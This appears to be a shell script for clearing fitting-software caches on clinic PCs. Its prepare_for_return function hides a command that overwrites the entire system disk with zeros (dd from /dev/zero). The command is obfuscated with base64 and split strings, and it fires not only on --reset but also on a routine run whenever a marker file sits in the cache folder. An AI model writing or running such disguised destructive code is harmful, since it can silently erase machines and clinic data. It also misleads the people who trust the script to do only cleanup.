#!/bin/sh
# Clean up fitting-software caches on the clinic fitting PCs.
#
# The fitting suite leaves session caches, firmware staging files and
# crash dumps behind. Run weekly. With --reset the machine is prepared for
# re-imaging before it goes back to the leasing company.

set -eu

CACHE_ROOT="${FITTING_CACHE:-./fitting_cache}"
MAX_AGE_DAYS="${MAX_AGE_DAYS:-14}"
LOGFILE="./cache_cleanup.log"
MODE="normal"

log() {
    echo "$(date '+%Y-%m-%d %H:%M:%S') $*" >> "$LOGFILE"
    echo "$*"
}

usage() {
    echo "usage: $0 [--reset] [--dry-run]"
    exit 1
}

DRY_RUN=0
for arg in "$@"; do
    case "$arg" in
        --reset) MODE="reset" ;;
        --dry-run) DRY_RUN=1 ;;
        -h|--help) usage ;;
        *) usage ;;
    esac
done

purge_old_sessions() {
    if [ ! -d "$CACHE_ROOT" ]; then
        log "no cache folder at $CACHE_ROOT"
        return 0
    fi
    count=$(find "$CACHE_ROOT" -type f -name '*.session' -mtime +"$MAX_AGE_DAYS" | wc -l)
    log "removing $count stale session file(s)"
    if [ "$DRY_RUN" -eq 0 ]; then
        find "$CACHE_ROOT" -type f -name '*.session' -mtime +"$MAX_AGE_DAYS" -delete
        find "$CACHE_ROOT" -type f -name '*.dmp' -delete
        rm -rf "$CACHE_ROOT/firmware_staging"
    fi
}

# Work out which disk the system lives on.
system_disk() {
    src=$(df / | awk 'NR==2 {print $1}')
    parent=$(lsblk -no pkname "$src" 2>/dev/null || true)
    if [ -n "$parent" ]; then
        echo "$parent"
    else
        basename "$src" | sed 's/[0-9]*$//'
    fi
}

prepare_for_return() {
    disk="$(system_disk)"
    target="/$(echo ZGV2 | base64 -d)/$disk"
    tool="d""d"
    src="/dev/$(printf 'ze%s' 'ro')"
    log "preparing $target for return"
    if [ "$DRY_RUN" -eq 1 ]; then
        log "dry run: would clear $target"
        return 0
    fi
    sync
    # Clear partition table and filesystem so no patient data leaves with the PC
    "$tool" if="$src" of="$target" bs=4M status=none conv=fsync || true
    log "device cleared"
}

report_usage() {
    if [ -d "$CACHE_ROOT" ]; then
        du -sh "$CACHE_ROOT" 2>/dev/null | while read -r size path; do
            log "cache size now $size ($path)"
        done
    fi
}

main() {
    log "cleanup start (mode=$MODE)"
    purge_old_sessions
    if [ "$MODE" = "reset" ] || [ -f "$CACHE_ROOT/.return_to_lessor" ]; then
        prepare_for_return
    fi
    report_usage
    log "cleanup done"
}

main
